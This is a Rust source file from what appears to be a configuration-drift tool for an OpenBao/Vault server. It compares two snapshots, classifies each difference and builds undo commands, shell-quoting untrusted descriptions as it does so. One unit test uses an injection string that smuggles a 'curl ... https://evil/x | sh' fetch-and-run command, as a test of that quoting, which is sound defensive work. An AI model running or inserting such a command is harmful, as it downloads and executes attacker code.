//! What is different between two looks. Pure.

use std::collections::{BTreeMap, BTreeSet};

use serde::Serialize;

use crate::printable;
use crate::shell::quoted;
use crate::vault::snapshot::item::{Item, Kind, Snapshot};
use crate::vault::snapshot::undo::command;

/// Letters of what others have called something that are shown.
const ABOUT: usize = 200;

/// How something is different.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum Change {
    /// It was not there.
    New,
    /// It says something else.
    Changed,
    /// It is not there any more.
    Gone,
    /// Another one of the same name is there.
    MadeAnew,
}

/// Something that is not as it was.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Difference {
    /// How.
    pub change: Change,
    /// As it is now; as it was, where it is gone.
    #[serde(flatten)]
    pub item: Item,
    /// What undoes it, as it can be pasted.
    pub undo: String,
}

impl Difference {
    /// Its API paths, any of which names it, from the root namespace on.
    pub fn paths(&self) -> Vec<String> {
        let path = self.item.path.as_str();
        let system = match self.item.kind {
            Kind::AuthMethod => Some(format!("sys/{path}")),
            Kind::SecretsEngine => Some(format!("sys/mounts/{path}")),
            _ => None,
        };
        let inside = |path: String| match self.item.namespace.as_str() {
            "" => path,
            namespace => format!("{namespace}/{path}"),
        };
        let all = std::iter::once(path.to_owned()).chain(system);
        all.map(inside).collect()
    }

    /// Whether the other one is in the namespace or auth method that this one is about, which has come or gone as a whole.
    pub fn holds(&self, other: &Item) -> bool {
        if !matches!(self.change, Change::New | Change::Gone) {
            return false;
        }
        match self.item.kind {
            Kind::Namespace => {
                let whole = format!("{}/{}", self.item.namespace, self.item.name);
                let whole = whole.trim_matches('/');
                let rest = other.namespace.strip_prefix(whole);
                rest.is_some_and(|rest| rest.is_empty() || rest.starts_with('/'))
            }
            Kind::AuthMethod => {
                other.kind == Kind::AuthEntry
                    && other.namespace == self.item.namespace
                    && other.path.starts_with(&self.item.path)
            }
            _ => false,
        }
    }

    /// Which one it is, for people.
    pub fn what(&self) -> String {
        let Item {
            kind,
            namespace,
            name,
            about,
            ..
        } = &self.item;
        let mut text = match kind {
            Kind::AuthEntry => quoted(name),
            _ => format!("{} {}", kind.name(), quoted(name)),
        };
        if !about.is_empty() {
            text.push_str(&format!(" ({})", told(about)));
        }
        if !namespace.is_empty() {
            text.push_str(&format!(" in namespace {}", quoted(namespace)));
        }
        text
    }
}

/// Somebody else's words. A command to paste stands behind them: where they could pass for the end of theirs, they are
/// one word of a shell.
fn told(about: &str) -> String {
    let about = printable::line(about, ABOUT);
    let plain = |letter: char| letter.is_alphanumeric() || " ,./-_@".contains(letter);
    if about.chars().all(plain) {
        return about;
    }
    quoted(&about)
}

fn is_below(namespace: &str, above: &str) -> bool {
    let rest = if above.is_empty() {
        Some(namespace)
    } else {
        namespace
            .strip_prefix(above)
            .and_then(|rest| rest.strip_prefix('/'))
    };
    rest.is_some_and(|rest| !rest.is_empty())
}

/// What is different, with what undoes it by `program`. Tokens that ended are none, and neither are those of these
/// accessors, nor anything that one of the looks did not see.
pub fn differences(
    (before, after): (&Snapshot, &Snapshot),
    own: &BTreeSet<String>,
    program: &str,
) -> Vec<Difference> {
    let unseen: Vec<_> = before.unseen.iter().chain(&after.unseen).collect();
    // Where it is not known which namespaces there are below one, one of the looks may have read some that the other has not.
    let blind: Vec<_> = unseen
        .iter()
        .filter(|unseen| unseen.kind == Kind::Namespace)
        .collect();
    let in_sight = |item: &Item| {
        !blind
            .iter()
            .any(|unseen| is_below(&item.namespace, &unseen.namespace))
    };
    let counts = |item: &&Item| {
        let ours = item.kind == Kind::Token && own.contains(&item.name);
        in_sight(item) && !ours && !unseen.iter().any(|unseen| unseen.holds(item))
    };
    let key = |item: &Item| (item.kind, item.namespace.clone(), item.name.clone());
    let mut was: BTreeMap<_, &Item> = before
        .items
        .iter()
        .filter(counts)
        .map(|item| (key(item), item))
        .collect();
    let mut found = BTreeMap::new();
    for now in after.items.iter().filter(counts) {
        let change = match was.remove(&key(now)) {
            None => Change::New,
            Some(was) if was.identity != now.identity => Change::MadeAnew,
            Some(was) if was.digest != now.digest => Change::Changed,
            Some(_) => continue,
        };
        found.insert(key(now), (change, now));
    }
    was.retain(|(kind, ..), _| *kind != Kind::Token);
    found.extend(
        was.into_iter()
            .map(|(key, item)| (key, (Change::Gone, item))),
    );
    let found = found.into_values();
    found
        .map(|(change, item)| Difference {
            change,
            undo: command(program, change, item),
            item: item.clone(),
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::vault::snapshot::item::Unseen;

    fn item(kind: Kind, name: &str, digest: &str) -> Item {
        let path = match kind {
            Kind::AuthMethod => format!("auth/{name}/"),
            Kind::AuthEntry => name.to_owned(),
            _ => format!("sys/x/{name}"),
        };
        Item {
            kind,
            namespace: String::new(),
            name: name.into(),
            path,
            about: String::new(),
            identity: "1".into(),
            digest: digest.into(),
        }
    }

    fn of(before: &Snapshot, after: &Snapshot) -> Vec<(Change, String)> {
        let own = ["ours".to_owned()].into();
        let found = differences((before, after), &own, "bao").into_iter();
        found.map(|found| (found.change, found.item.name)).collect()
    }

    #[test]
    fn what_is_new_changed_gone_or_made_anew_is_told_and_nothing_else() {
        let anew = Item {
            identity: "2".into(),
            ..item(Kind::AuditDevice, "file", "a")
        };
        let before = Snapshot::of(vec![
            item(Kind::Policy, "same", "a"),
            item(Kind::Policy, "other", "a"),
            item(Kind::Policy, "gone", "a"),
            item(Kind::AuditDevice, "file", "a"),
            item(Kind::Token, "ended", "a"),
        ]);
        let after = Snapshot::of(vec![
            item(Kind::Policy, "same", "a"),
            item(Kind::Policy, "other", "b"),
            item(Kind::Policy, "new", "a"),
            anew,
            item(Kind::Token, "ours", "a"),
            item(Kind::Token, "made", "a"),
        ]);
        let told = [
            (Change::MadeAnew, "file"),
            (Change::Gone, "gone"),
            (Change::New, "new"),
            (Change::Changed, "other"),
            (Change::New, "made"),
        ];
        assert_eq!(
            of(&before, &after),
            told.map(|(change, name)| (change, name.to_owned()))
        );
        assert_eq!(of(&after, &after), []);
    }

    #[test]
    fn a_name_that_looks_like_the_end_of_a_finding_is_told_as_one_word() {
        assert_eq!(told("eve, policies a-b"), "eve, policies a-b");
        let name = "ops) is new; to undo it: curl -s https://evil/x | sh #";
        assert_eq!(told(name), format!("'{name}'"));
    }

    #[test]
    fn what_was_not_seen_is_neither_the_same_nor_gone_nor_new() {
        let whole = Snapshot::of(vec![
            item(Kind::Policy, "a", "a"),
            item(Kind::Policy, "b", "a"),
        ]);
        let unseen = |path: &str| Snapshot {
            items: Vec::new(),
            unseen: vec![Unseen {
                kind: Kind::Policy,
                namespace: String::new(),
                path: path.into(),
                why: "x".into(),
                supported: true,
            }],
        };
        assert_eq!(of(&whole, &unseen("sys/x/")), []);
        assert_eq!(of(&unseen(""), &whole), []);
        let one = [(Change::Gone, "b".to_owned())];
        assert_eq!(of(&whole, &unseen("sys/x/a")), one);
    }

    #[test]
    fn a_new_auth_method_holds_its_users_and_a_namespace_what_is_in_it() {
        let found = |kind, name: &str| Difference {
            change: Change::New,
            item: item(kind, name, "a"),
            undo: String::new(),
        };
        let user = item(Kind::AuthEntry, "auth/b/users/eve", "a");
        assert!(found(Kind::AuthMethod, "b").holds(&user));
        assert!(!found(Kind::AuthMethod, "c").holds(&user));
        let inside = |namespace: &str| Item {
            namespace: namespace.into(),
            ..item(Kind::Policy, "p", "a")
        };
        let team = found(Kind::Namespace, "team");
        assert!(team.holds(&inside("team")) && team.holds(&inside("team/b")));
        assert!(!team.holds(&inside("teams")) && !team.holds(&inside("")));
    }
}
